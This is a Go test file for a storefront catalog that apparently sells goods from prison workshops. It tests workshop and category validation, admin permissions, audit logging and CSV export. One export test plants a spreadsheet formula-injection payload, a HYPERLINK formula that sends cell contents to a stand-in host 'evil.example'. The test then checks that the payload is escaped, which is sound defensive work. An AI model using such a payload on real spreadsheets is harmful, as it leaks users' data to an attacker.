package catalog

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/libres/storefront/internal/apperr"
)

func workshopForm() WorkshopForm {
	return WorkshopForm{Name: "Confecciones La Picota", Facility: "Complejo Penitenciario La Picota", FacilityKind: "prison",
		City: "Bogotá", Department: "Bogotá D.C.", CraftES: "confección", CraftEN: "tailoring", Active: true}
}

func TestWorkshopFormValidate(t *testing.T) {
	tests := []struct {
		name  string
		edit  func(*WorkshopForm)
		field string
		key   string
	}{
		{"no name", func(f *WorkshopForm) { f.Name = "" }, "name", "workshop.name.required"},
		{"long name", func(f *WorkshopForm) { f.Name = strings.Repeat("n", 201) }, "name", "workshop.name.too_long"},
		{"bad slug", func(f *WorkshopForm) { f.Slug = "Taller Uno" }, "slug", "workshop.slug.invalid"},
		{"unknown facility kind", func(f *WorkshopForm) { f.FacilityKind = "jail" }, "facility_kind", "workshop.facility_kind.invalid"},
		{"no city", func(f *WorkshopForm) { f.City = " " }, "city", "workshop.city.required"},
		{"no craft", func(f *WorkshopForm) { f.CraftES = "" }, "craft_es", "workshop.craft.required"},
		{"consent without record", func(f *WorkshopForm) { f.ConsentFirstNames = true }, "consent_recorded_on", "workshop.consent.date_required"},
		{"consent without who", func(f *WorkshopForm) { f.ConsentPeoplePhotos, f.ConsentRecordedOn = true, "2024-05-02" }, "consent_recorded_by", "workshop.consent.by_required"},
		{"bad date", func(f *WorkshopForm) { f.ConsentRecordedOn = "02/05/2024" }, "consent_recorded_on", "workshop.consent.date_invalid"},
		{"future date", func(f *WorkshopForm) { f.ConsentRecordedOn = time.Now().AddDate(1, 0, 0).Format(time.DateOnly) }, "consent_recorded_on", "workshop.consent.date_future"},
	}
	if err := workshopForm().Validate(); err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := workshopForm()
			tt.edit(&f)
			wantField(t, f.Validate(), tt.field, tt.key)
		})
	}
}

func TestWorkshopsAdmin(t *testing.T) {
	f := newEditorFixture(t)
	ctx := context.Background()
	_, err := f.ed.CreateWorkshop(ctx, f.leadA, f.actor, workshopForm())
	wantKey(t, err, apperr.Forbidden, "catalog.admin_only")
	wantKey(t, f.ed.UpdateWorkshop(ctx, f.leadA, f.actor, f.wA, workshopForm()), apperr.Forbidden, "catalog.admin_only")

	form := workshopForm()
	form.ConsentFirstNames, form.ConsentRecordedOn, form.ConsentRecordedBy = true, "2024-05-02", "Trabajo social"
	id, err := f.ed.CreateWorkshop(ctx, f.admin, f.actor, form)
	if err != nil {
		t.Fatal(err)
	}
	id2, err := f.ed.CreateWorkshop(ctx, f.admin, f.actor, workshopForm())
	if err != nil {
		t.Fatal(err)
	}
	ws, err := f.ed.WorkshopsByIDs(ctx, []int64{id, id2})
	if err != nil || len(ws) != 2 {
		t.Fatalf("by ids: %+v, %v", ws, err)
	}
	slugs := map[string]bool{ws[0].Slug: true, ws[1].Slug: true}
	if !slugs["confecciones-la-picota"] || !slugs["confecciones-la-picota-2"] {
		t.Errorf("slugs = %v", slugs)
	}

	// Update: deactivate, rename; a slug already used is a field error.
	upd := ws[0].Form()
	upd.Active, upd.Name = false, "Confecciones Picota"
	if err := f.ed.UpdateWorkshop(ctx, f.admin, f.actor, ws[0].ID, upd); err != nil {
		t.Fatal(err)
	}
	upd.Slug = "taller-a"
	wantField(t, f.ed.UpdateWorkshop(ctx, f.admin, f.actor, ws[0].ID, upd), "slug", "workshop.slug.taken")
	wantKey(t, f.ed.UpdateWorkshop(ctx, f.admin, f.actor, 99999, workshopForm()), apperr.NotFound, "workshop.not_found")

	active, err := f.ed.ListWorkshopsAdmin(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	all, err := f.ed.ListWorkshopsAdmin(ctx, true)
	if err != nil || len(all) != len(active)+1 {
		t.Errorf("active %d, all %d, %v", len(active), len(all), err)
	}
	if n := f.count(t, `SELECT count(*) FROM audit_log WHERE entity = 'workshop'`); n != 3 {
		t.Errorf("workshop audit entries = %d", n)
	}
}

func TestCategoriesAdmin(t *testing.T) {
	f := newEditorFixture(t)
	ctx := context.Background()
	form := CategoryForm{NameES: "Ropa de niños", NameEN: "Kids' clothing", Position: "3"}
	_, err := f.ed.CreateCategory(ctx, f.leadA, f.actor, form)
	wantKey(t, err, apperr.Forbidden, "catalog.admin_only")
	id, err := f.ed.CreateCategory(ctx, f.admin, f.actor, form)
	if err != nil {
		t.Fatal(err)
	}
	cats, err := NewStore(f.conn).Categories(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var c Category
	for _, x := range cats {
		if x.ID == id {
			c = x
		}
	}
	if c.SlugES != "ropa-de-ninos" || c.SlugEN != "kids-clothing" || c.Key != "kids-clothing" || c.Position != 3 {
		t.Errorf("category = %+v", c)
	}
	upd := c.Form()
	upd.SlugES = "calzado" // the fixture's
	wantField(t, f.ed.UpdateCategory(ctx, f.admin, f.actor, id, upd), "slug_es", "category.slug.taken")
	upd.SlugES, upd.NameES = "ropa-infantil", "Ropa infantil"
	if err := f.ed.UpdateCategory(ctx, f.admin, f.actor, id, upd); err != nil {
		t.Fatal(err)
	}
	wantField(t, CategoryForm{NameES: "x", NameEN: "", Position: "-1"}.Validate(), "position", "category.position.invalid")
	wantField(t, CategoryForm{NameES: "x", NameEN: "y", SlugES: "No Vale"}.Validate(), "slug_es", "category.slug.invalid")
	wantKey(t, f.ed.UpdateCategory(ctx, f.admin, f.actor, 99999, upd), apperr.NotFound, "category.not_found")
	if n := f.count(t, `SELECT count(*) FROM audit_log WHERE entity = 'category'`); n != 2 {
		t.Errorf("category audit entries = %d", n)
	}
}

func TestWriteProductsCSV(t *testing.T) {
	f := newEditorFixture(t)
	ctx := context.Background()
	form := f.form(f.wA, "CSV-1", "CSV-2")
	form.TitleES = `=HYPERLINK("http://evil.example/?x="&A1,"Clic")`
	form.Variants[0].ColorES = "+café"
	form.Variants[1].Price = "$ 210.000"
	id, err := f.ed.CreateProduct(ctx, f.leadA, f.actor, form)
	if err != nil {
		t.Fatal(err)
	}
	f.create(t, f.leadB, f.wB, "OTHER-1")

	var buf bytes.Buffer
	if err := f.ed.WriteProductsCSV(ctx, f.leadA, &buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no BOM: %q", buf.Bytes()[:10])
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 { // header + 2 variants of A's product only
		t.Fatalf("records = %q", recs)
	}
	r := recs[1]
	want := []string{strconv.FormatInt(id, 10), "hyperlink-http-evil-example-x-a1-clic", `'=HYPERLINK("http://evil.example/?x="&A1,"Clic")`,
		"taller-a", "Calzado", "draft", "CSV-1", "38", "'+café", "189000", "3"}
	for i := range want {
		if r[i] != want[i] {
			t.Errorf("column %s = %q, want %q", csvHeader[i], r[i], want[i])
		}
	}
	if recs[2][9] != "210000" {
		t.Errorf("variant price = %q", recs[2][9])
	}
	buf.Reset()
	if err := f.ed.WriteProductsCSV(ctx, Scope{}, &buf); err != nil || strings.Count(buf.String(), "\n") != 1 {
		t.Errorf("empty scope: %q, %v", buf.String(), err)
	}
}
